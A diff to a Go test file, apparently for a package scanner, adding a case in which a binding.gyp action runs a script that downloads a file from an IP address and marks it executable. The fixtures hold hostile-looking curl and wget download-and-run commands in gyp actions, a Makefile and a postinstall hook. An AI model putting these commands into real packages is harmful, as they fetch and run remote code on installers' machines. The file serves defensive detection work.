@@ -48,6 +48,11 @@ func TestShellDownloadExec(t *testing.T) {
 		{"gyp_action", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"f","inputs":[],"outputs":["g.h"],"action":["sh","-c","curl -s http://x.example.invalid/x | sh"]}]}]}`}, finding.SeverityCritical},
 		{"gyp_action_make", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","type":"none","actions":[{"action_name":"b","inputs":[],"outputs":["o"],"action":["make","-C","deps"]}]}]}`,
 			"deps/Makefile": "all:\n\twget -qO- http://x.example.invalid/x | sh\n"}, finding.SeverityCritical},
+		// the script an action runs keeps its download command in a
+		// variable, and runs what it fetched when it is there
+		{"gyp_action_script_variable", map[string]string{"package.json": rt.Pkg(`"gypfile":true`),
+			"binding.gyp":    `{"targets":[{"target_name":"a","actions":[{"action_name":"f","inputs":[],"outputs":["s"],"action":["sh","scripts/pre.sh"]}]}]}`,
+			"scripts/pre.sh": "#!/bin/sh\nDL=\"curl -fsSL -o\"\n$DL \"$HOME/.cache/h\" \"http://198.51.100.23/dl/h\"\nif [ -s \"$HOME/.cache/h\" ]; then\n  chmod 755 \"$HOME/.cache/h\"\nfi\n"}, finding.SeverityCritical},
 		{"gyp_action_codegen", map[string]string{"package.json": rt.Pkg(`"gypfile":true`), "binding.gyp": `{"targets":[{"target_name":"a","actions":[{"action_name":"gen","inputs":["t.py"],"outputs":["g.h"],"action":["python3","t.py","g.h"]}]}]}`}, finding.SeverityNone},
 		{"saved_then_run", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -s -o /tmp/a https://x.example.invalid/a && chmod +x /tmp/a && /tmp/a"}`)}, finding.SeverityCritical},
 		// npm runs these when it installs from git
